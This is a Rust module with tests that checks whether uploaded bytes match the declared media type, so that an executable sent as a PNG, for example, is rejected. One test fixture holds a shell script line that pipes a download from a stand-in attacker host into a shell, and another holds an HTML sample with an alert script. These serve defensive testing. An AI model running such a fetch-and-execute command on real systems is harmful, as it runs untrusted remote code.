//! Whether an uploaded file's bytes fit the media type its form declares (SPEC §6: uploads
//! are "content-type checked"). The declared type is held to the configured list by
//! `workflow::evidence`; here the bytes are recognised by their magic numbers (`infer`), so a
//! Windows executable declared `image/png` is not stored, and later handed out, as a photo.
//! Bytes of no format `infer` knows are taken as declared: integrators upload small test files.

use std::fmt;

use infer::MatcherType;

/// Bytes recognised as a type that does not fit the declared one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Mismatch {
    /// What the bytes are (`application/vnd.microsoft.portable-executable`).
    pub found: &'static str,
    /// What the form said they are (`image/png`).
    pub declared: String,
}

impl fmt::Display for Mismatch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "the file is {}, not {}", self.found, self.declared)
    }
}

/// What `infer` names files of the ISO base media format (an `ftyp` box first): MP4,
/// QuickTime, M4A, HEIF and AVIF share one container, and a phone's video, voice memo or
/// photo may come in any brand of it.
const ISO_FOUND: &[&str] = &[
    "video/mp4",
    "video/x-m4v",
    "video/quicktime",
    "audio/m4a",
    "image/heif",
    "image/avif",
];

/// Declared types whose files come in that container. `audio/aac` too: phones record AAC
/// into MP4 (`.m4a`) as often as into bare ADTS.
const ISO_DECLARED: &[&str] = &[
    "video/mp4",
    "video/x-m4v",
    "video/quicktime",
    "video/3gpp",
    "audio/mp4",
    "audio/m4a",
    "audio/x-m4a",
    "audio/aac",
    "image/heic",
    "image/heic-sequence",
    "image/heif",
    "image/heif-sequence",
    "image/avif",
];

/// Whether `bytes` may be stored as `declared` (a media type without parameters):
/// * bytes `infer` does not recognise: yes, as declared;
/// * the same media type: yes;
/// * `image/*`, `audio/*`, `video/*`: another format of the same kind (a photo declared
///   `image/jpeg` that is a PNG is still a photo), or any ISO container for a type that comes
///   in one ([`ISO_DECLARED`]); an executable, script, archive or document is refused;
/// * `text/plain`: what `infer` takes for text (HTML, XML, a script), or UTF-8 text whatever
///   its first letters spell — `BC`, `MZ` or `ID3` opening a sentence are magic numbers too;
/// * `application/pdf` and any other type: only itself.
pub fn bytes_fit(declared: &str, bytes: &[u8]) -> Result<(), Mismatch> {
    let Some(found) = infer::get(bytes) else {
        return Ok(());
    };
    let media_type = declared.to_ascii_lowercase();
    let found_type = found.mime_type();
    let fits = media_type == found_type
        || match media_type.split_once('/') {
            Some(("text", "plain")) => found.matcher_type() == MatcherType::Text || text(bytes),
            Some((kind @ ("image" | "audio" | "video"), _)) => {
                found_type.split_once('/').is_some_and(|(k, _)| k == kind)
                    || (ISO_DECLARED.contains(&media_type.as_str())
                        && ISO_FOUND.contains(&found_type))
            }
            _ => false,
        };
    if fits {
        Ok(())
    } else {
        Err(Mismatch {
            found: found_type,
            declared: declared.to_owned(),
        })
    }
}

/// Whether `bytes` are UTF-8 text: valid UTF-8 without a binary data byte as the WHATWG MIME
/// Sniffing Standard defines one (a control character other than tab, line feed, form feed,
/// carriage return and escape). A PDF is not, by the invalid UTF-8 of its second line (the
/// PDF standard asks for bytes over 127 there, so that tools take the file for binary).
fn text(bytes: &[u8]) -> bool {
    std::str::from_utf8(bytes).is_ok()
        && !bytes
            .iter()
            .any(|b| matches!(b, 0x00..=0x08 | 0x0B | 0x0E..=0x1A | 0x1C..=0x1F))
}

#[cfg(test)]
mod tests {
    use super::*;

    type Samples = &'static [&'static [u8]];

    /// Asserts that each declared type takes the first samples of its row and refuses the
    /// second.
    fn check(table: &[(&str, Samples, Samples)]) {
        for (declared, takes, refuses) in table {
            for bytes in *takes {
                let verdict = bytes_fit(declared, bytes);
                assert!(verdict.is_ok(), "{declared} takes {bytes:?}: {verdict:?}");
            }
            for bytes in *refuses {
                let verdict = bytes_fit(declared, bytes);
                assert!(verdict.is_err(), "{declared} refuses {bytes:?}");
            }
        }
    }

    #[test]
    fn a_photo_may_be_any_image_format_but_never_an_executable_archive_or_document() {
        check(&[
            (
                "image/png",
                &[PNG, UNKNOWN, b"png"],
                &[EXE, &ELF, SCRIPT, HTML, PDF],
            ),
            (
                "image/jpeg",
                &[JPEG, PNG, b"jpeg"],
                &[ZIP, GZIP, DOCX, OLE, WAV],
            ),
            ("IMAGE/PNG", &[PNG], &[EXE]),
            ("image/webp", &[JPEG, PNG, UNKNOWN], &[RTF]),
        ]);
    }

    #[test]
    fn photos_videos_and_voice_memos_of_one_iso_container_fit_one_anothers_types() {
        check(&[
            ("image/heic", &[HEIC, MP4, MOV, M4A], &[ZIP, MP3, SCRIPT]),
            ("image/png", &[PNG, HEIC], &[MP4, MOV, MP3]),
            (
                "video/mp4",
                &[MP4, MOV, HEIC, M4A, &[0; 64]],
                &[MP3, PNG, ZIP],
            ),
            ("video/quicktime", &[MP4], &[EXE, WAV]),
            ("audio/aac", &[MP4, M4A, MP3], &[&ELF]),
            ("audio/mpeg", &[MP3, M4A, WAV], &[PNG, SCRIPT, MOV, OLE]),
            ("audio/wav", &[WAV], &[MOV]),
            ("audio/amr", &[UNKNOWN], &[EXE]),
        ]);
    }

    #[test]
    fn a_pdf_is_only_a_pdf_and_text_is_text_whatever_its_first_letters_spell() {
        check(&[
            (
                "application/pdf",
                &[PDF, b"not a pdf"],
                &[EXE, ZIP, DOCX, RTF, PNG, HTML],
            ),
            (
                "text/plain",
                &[STATEMENT, b"BC Express lost my parcel"],
                &[EXE, &ELF],
            ),
            (
                "text/plain",
                &[b"MZ-4471 arrived crushed", b"ID3 tag on the label"],
                &[PNG],
            ),
            ("text/plain", &[SCRIPT, HTML, b""], &[PDF, GZIP, MP3]),
            // Text in another encoding is not told from what its first letters name.
            ("text/plain", &[], &[GBK_MZ]),
        ]);
    }

    #[test]
    fn a_refusal_names_what_the_file_is_and_what_it_was_said_to_be() {
        let refused = bytes_fit("image/png", EXE).expect_err("an executable is no photo");

        assert_eq!(
            refused.to_string(),
            "the file is application/vnd.microsoft.portable-executable, not image/png"
        );
        assert_eq!(
            bytes_fit("Application/PDF", PNG)
                .expect_err("a PNG is no PDF")
                .to_string(),
            "the file is image/png, not Application/PDF",
            "the declared type as the form said it"
        );
    }

    // The samples: how files of each format begin.
    const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01";
    const JPEG: &[u8] = b"\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01";
    /// Bytes of no format `infer` knows, as integrators' test files are.
    const UNKNOWN: &[u8] = b"\x89\x89\x89\x89 test photo";
    const EXE: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0";
    /// An ELF header (`infer` wants more than 52 bytes).
    const ELF: [u8; 64] = {
        let mut elf = [0; 64];
        elf[0] = 0x7F;
        elf[1] = b'E';
        elf[2] = b'L';
        elf[3] = b'F';
        elf
    };
    const ZIP: &[u8] = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0notes";
    const GZIP: &[u8] = b"\x1F\x8B\x08\0\0\0\0\0\0\x03";
    const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://evil.example | sh\n";
    const HTML: &[u8] = b"<!DOCTYPE html><html><script>alert(1)</script></html>";
    const DOCX: &[u8] =
        b"PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0\0\0\0\0\0\0\0\0\0\0\0\0\x11\0\0\0word/document.xml";
    const OLE: &[u8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0\0\0\0\0";
    const RTF: &[u8] = b"{\\rtf1\\ansi\\deff0 {\\fonttbl}}";
    const PDF: &[u8] = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n";
    /// Chinese in GBK, opening with the letters of a Windows executable's magic number.
    const GBK_MZ: &[u8] = b"MZ\xD5\xE2\xCA\xC7";
    const WAV: &[u8] = b"RIFF\x24\x08\0\0WAVEfmt ";
    const STATEMENT: &[u8] = "我看见快递员把箱子扔下车。".as_bytes();
    const MP3: &[u8] = b"ID3\x03\0\0\0\0\x0F\x76";
    const MP4: &[u8] = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom";
    const MOV: &[u8] = b"\0\0\0\x14ftypqt  \0\0\0\0qt  ";
    const HEIC: &[u8] = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic";
    const M4A: &[u8] = b"\0\0\0\x18ftypM4A \0\0\0\0M4A mp42";
}
